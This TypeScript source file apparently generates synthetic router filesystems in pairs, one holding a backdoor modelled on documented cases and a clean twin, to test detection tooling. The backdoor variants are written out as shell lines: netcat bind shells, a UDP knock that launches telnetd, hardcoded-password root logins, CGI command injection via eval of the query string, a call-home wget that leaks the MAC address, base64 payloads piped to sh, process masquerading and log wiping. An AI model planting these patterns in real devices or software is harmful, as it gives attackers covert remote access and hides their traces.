/* Made-up trees around documented cases: how each kind of published fact could stand in a small router's files, and the
   same files without the fact. The forms are ours; in the real cases many of these facts stood in compiled code. */
import type { Indicator, KnownCase } from '#domain/knowledge';

/** Path → content and mode. */
export type Files = Readonly<Record<string, { readonly bytes: Uint8Array; readonly mode: number }>>;

export interface Twins {
  readonly withFact: Files;
  readonly without: Files;
}

/** Whole numbers, evenly drawn: 0 ≤ draw(n) < n. */
type Draw = (n: number) => number;

const script = (...lines: readonly string[]) => ({
  bytes: Buffer.from(['#!/bin/sh', ...lines, ''].join('\n')),
  mode: 0o755,
});

const text = (...lines: readonly string[]) => ({
  bytes: Buffer.from([...lines, ''].join('\n')),
  mode: 0o644,
});

/** A router without anything to find. */
const BASE: Files = {
  'etc/passwd': text('root:x:0:0:root:/root:/bin/sh', 'nobody:x:65534:65534:nobody:/:/bin/false'),
  'etc/shadow': text('root:*:0:0:99999:7:::', 'nobody:*:0:0:99999:7:::'),
  'etc/group': text('root:x:0:', 'nobody:x:65534:'),
  'etc/inittab': text('::sysinit:/etc/init.d/rcS', '::shutdown:/bin/umount -a -r'),
  'etc/init.d/rcS': script('mount -t proc proc /proc', 'for s in /etc/init.d/S??*; do $s start; done'),
  'etc/init.d/S50httpd': script('/usr/sbin/httpd -p 80 -h /www'),
  'etc/hosts': text('127.0.0.1 localhost'),
  'www/index.html': text('<html><body><a href="/cgi-bin/status.cgi">Status</a></body></html>'),
  'www/cgi-bin/status.cgi': script(
    '. /usr/lib/session.sh',
    'check_session || { echo "Status: 403"; echo; exit 0; }',
    'echo "Content-Type: text/plain"; echo',
    'cat /proc/uptime',
  ),
  'usr/lib/session.sh': script('check_session() { [ -n "$COOKIE" ] && [ -f "/tmp/session/$COOKIE" ]; }'),
};

/** A hash that nobody knows the password of. */
function hashFrom(draw: Draw): string {
  const letters = './0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz';
  const word = (n: number) => Array.from({ length: n }, () => letters[draw(64)]).join('');
  // 128 bits in 22 letters of six: the last has two
  return `$1$${word(8)}$${word(21)}${letters[draw(4)]}`;
}

const quoted = (value: string) => `'${value.replaceAll("'", String.raw`'\''`)}'`;

type Form = (value: string, draw: Draw, of: KnownCase, index: number) => Partial<Twins>;

const account: Form = (name, draw) => ({
  withFact:
    name === 'root'
      ? { 'etc/shadow': text(`root:${hashFrom(draw)}:0:0:99999:7:::`) }
      : {
          'etc/passwd': text('root:x:0:0:root:/root:/bin/sh', `${name}:x:0:0::/:/bin/sh`),
          'etc/shadow': text('root:*:0:0:99999:7:::', `${name}:${hashFrom(draw)}:0:0:99999:7:::`),
        },
  without: {
    'etc/passwd': text('root:x:0:0:root:/root:/bin/sh', 'admin:x:77:77::/:/bin/false'),
    'etc/shadow': text('root:*:0:0:99999:7:::', 'admin:*:0:0:99999:7:::'),
  },
});

const credential: Form = (value, _draw, _of, index) => {
  const [user = '', password = user] = value.includes('/') ? value.split('/') : ['admin', value];
  return {
    withFact: {
      [`usr/sbin/weblogin${index}`]: script(
        'USER="$1"; PASSWORD="$2"',
        `if [ "$USER" = ${quoted(user)} ] && [ "$PASSWORD" = ${quoted(password)} ]; then`,
        '  exec /bin/sh',
        'fi',
        'exec /usr/sbin/check-password "$USER"',
      ),
    },
    without: {
      [`usr/sbin/weblogin${index}`]: script(
        'USER="$1"; PASSWORD="$2"',
        'exec /usr/sbin/check-password "$USER"',
      ),
    },
  };
};

/** A constant of a request that stands for being logged in. */
const bypass =
  (variable: string): Form =>
  (value) => {
    const rest = ['echo "Content-Type: text/plain"; echo', 'eval "$(echo "$QUERY_STRING" | sed s/cmd=//)"'];
    return {
      withFact: {
        'www/cgi-bin/setup.cgi': script(
          `if [ "$${variable}" != ${quoted(value)} ]; then`,
          '  . /usr/lib/session.sh',
          '  check_session || { echo "Status: 403"; echo; exit 0; }',
          'fi',
          ...rest,
        ),
      },
      without: {
        'www/cgi-bin/setup.cgi': script(
          '. /usr/lib/session.sh',
          'check_session || { echo "Status: 403"; echo; exit 0; }',
          'echo "Content-Type: text/plain"; echo',
          'cat /proc/meminfo',
        ),
      },
    };
  };

/** A word on a socket that starts a shell. */
const knock: Form = (value, _draw, { indicators }) => {
  const port = indicators.find(({ kind }) => kind === 'port')?.value.split('/')[1] ?? '5000';
  return {
    withFact: {
      'etc/init.d/S90testd': script('/usr/sbin/testd &'),
      'usr/sbin/testd': script(
        `nc -u -l -p ${port} | while read word; do`,
        `  [ "$word" = ${quoted(value)} ] && telnetd -l /bin/sh`,
        'done',
      ),
    },
    without: {
      'etc/init.d/S90testd': script('/usr/sbin/testd &'),
      'usr/sbin/testd': script('while sleep 60; do', '  date > /tmp/alive', 'done'),
    },
  };
};

const boundShell: Form = (value) => ({
  withFact: {
    'etc/init.d/S91maint': script(`nc -l -p ${value.split('/')[1]} -e /bin/sh &`),
  },
  without: { 'etc/init.d/S91maint': script('date > /tmp/started') },
});

const program: Form = (value) => {
  const path = (value.startsWith('/') ? value : `/usr/sbin/${value}`).slice(1);
  return {
    withFact: {
      [path]: script('nc -l -p 5555 -e /bin/sh'),
      'etc/init.d/S92agent': script(`/${path} &`),
    },
    without: { 'etc/init.d/S92agent': script('date > /tmp/started') },
  };
};

const page: Form = (value) => ({
  withFact: {
    [`www${value}`]: script(
      'echo "Content-Type: text/plain"; echo',
      'sh -c "$(echo "$QUERY_STRING" | sed s/cmd=//)"',
    ),
  },
  without: {},
});

const key: Form = (value) => ({
  withFact: { 'root/.ssh/authorized_keys': text(value) },
  without: {},
});

const callHome: Form = (value) => ({
  withFact: {
    'usr/sbin/report': script(
      `wget -q -O /dev/null "http://${value}/r?id=$(cat /sys/class/net/eth0/address)"`,
    ),
    'etc/crontabs/root': text('0 2 * * * /usr/sbin/report'),
  },
  without: {
    'usr/sbin/report': script('cat /sys/class/net/eth0/address > /tmp/address'),
    'etc/crontabs/root': text('0 2 * * * /usr/sbin/report'),
  },
});

const capture: Form = (value) => ({
  withFact: {
    [`etc/${value.split('/').at(-1)}`]: text('12025550100', '12025550101'),
    'etc/init.d/S93smsd': script(
      `tcpdump -i eth1 -l -A | grep -F -f /etc/${value.split('/').at(-1)} >> /tmp/.smsd &`,
    ),
  },
  without: { 'etc/init.d/S93smsd': script('date > /tmp/started') },
});

const renamed: Form = (value) => ({
  withFact: {
    'etc/init.d/S94misc': script(`cp /bin/busybox /tmp/x`, `exec -a ${quoted(value)} /tmp/x nc -l -p 7777 &`),
  },
  without: { 'etc/init.d/S94misc': script('date > /tmp/started') },
});

/** A file that goes away once it runs. */
const runFile: Form = (value) => ({
  withFact: {
    'etc/init.d/S95hald': script(
      `[ -f ${value} ] && exit 0`,
      `cp /usr/lib/.hald /dev/shm/hald; exec -a "[kworker/0:1]" /dev/shm/hald & echo $! > ${value}`,
    ),
    'usr/lib/.hald': script('nc -l -p 42391 -e /bin/sh'),
  },
  without: { 'etc/init.d/S95hald': script('date > /tmp/started') },
});

const planted: Form = (value) => ({
  withFact: {
    [`usr/share/build/${value}`]: { bytes: Buffer.from('ZGF0ZSA+IC90bXAvbWFya2VyCg==\n'), mode: 0o644 },
    'etc/init.d/S96build': script(`base64 -d /usr/share/build/${value} | sh`),
  },
  without: { 'etc/init.d/S96build': script('date > /tmp/started') },
});

const wiped: Form = (value) => ({
  withFact: { 'etc/init.d/S97log': script(`sed -i ${quoted(`/${value}/d`)} /var/log/messages`) },
  without: { 'etc/init.d/S97log': script('date > /tmp/started') },
});

const inBinary: Form = (value) => ({
  withFact: {
    'usr/sbin/agentd': {
      bytes: Buffer.concat([
        Buffer.from('\x7fELF\x01\x01\x01\0made up, no program\0', 'latin1'),
        /^(?:[0-9A-F]{2})+$/.test(value) ? Buffer.from(value, 'hex') : Buffer.from(`${value}\0`),
        Buffer.alloc(64),
      ]),
      mode: 0o755,
    },
  },
  without: {},
});

/** The form in which an indicator of a case can stand in files; null: it cannot. */
function formFor({ kind, value }: Indicator, { class: of }: KnownCase): Form | null {
  switch (kind) {
    case 'account':
      return account;
    case 'credential':
      return credential;
    case 'header':
      return bypass('HTTP_USER_AGENT');
    case 'url-parameter':
      return bypass('QUERY_STRING');
    case 'string':
    case 'string-prefix':
      if (value.includes('%')) return inBinary; // a format of the language C
      return of === 'knock' || of === 'service'
        ? knock
        : of === 'endpoint' || of === 'account'
          ? bypass('QUERY_STRING')
          : inBinary;
    case 'bytes':
      return inBinary;
    case 'log':
      return wiped;
    case 'url-path':
      return page;
    case 'path':
      return value.startsWith('/var/run') || value.startsWith('/dev/') ? runFile : program;
    case 'file':
      return of === 'supply-chain' ? planted : capture;
    case 'process-name':
      return renamed;
    case 'ssh-key-sha256':
      return key;
    case 'domain':
    case 'ip':
      return callHome;
    case 'port':
      return boundShell;
    default:
      return null;
  }
}

/** Kinds that stand in no file of a tree, or are for people. */
export function standsInFiles(indicator: Indicator, of: KnownCase): boolean {
  return formFor(indicator, of) !== null;
}

/** The tree of a case with every fact that can stand in files, and its twin. */
export function twinsOf(of: KnownCase, draw: Draw): Twins {
  let twins: Twins = { withFact: BASE, without: BASE };
  for (const [index, indicator] of of.indicators.entries()) {
    const made = formFor(indicator, of)?.(indicator.value, draw, of, index);
    twins = {
      withFact: { ...twins.withFact, ...made?.withFact },
      without: { ...twins.without, ...made?.without },
    };
  }
  return twins;
}

/** The same indicator with a random value of the same shape: letters stay letters, digits digits, known folders stay. */
export function likewise(indicator: Indicator, draw: Draw): Indicator {
  const { kind, value } = indicator;
  switch (kind) {
    case 'port':
      return { ...indicator, value: `${value.split('/')[0]}/${20_000 + draw(40_000)}` };
    case 'ip':
      return { ...indicator, value: `93.${draw(200) + 1}.${draw(250)}.${draw(250) + 1}` };
    case 'domain': {
      const end = value.slice(value.lastIndexOf('.'));
      return { ...indicator, value: scrambled(value.slice(0, -end.length), draw) + end };
    }
    case 'path':
    case 'url-path': {
      const at = value.lastIndexOf('/') + 1;
      const dot = value.lastIndexOf('.') < at ? value.length : value.lastIndexOf('.');
      return {
        ...indicator,
        value: value.slice(0, at) + scrambled(value.slice(at, dot), draw) + value.slice(dot),
      };
    }
    case 'header':
      return { ...indicator, value: `User-Agent: ${scrambled(value.slice('User-Agent: '.length), draw)}` };
    case 'bytes':
      return { ...indicator, value: value.replaceAll(/./g, () => '0123456789ABCDEF'[draw(16)] ?? '0') };
    case 'ssh-key-sha256':
    case 'ssh-key-md5':
    case 'note':
    case 'cve':
      return indicator;
    default:
      return { ...indicator, value: scrambled(value, draw) };
  }
}

function scrambled(value: string, draw: Draw): string {
  const pick = (letters: string) => letters[draw(letters.length)] ?? 'x';
  return value.replaceAll(/[a-z]|[A-Z]|[0-9]/g, (char) =>
    /[a-z]/.test(char)
      ? pick('abcdefghijklmnopqrstuvwxyz')
      : /[A-Z]/.test(char)
        ? pick('ABCDEFGHIJKLMNOPQRSTUVWXYZ')
        : pick('0123456789'),
  );
}
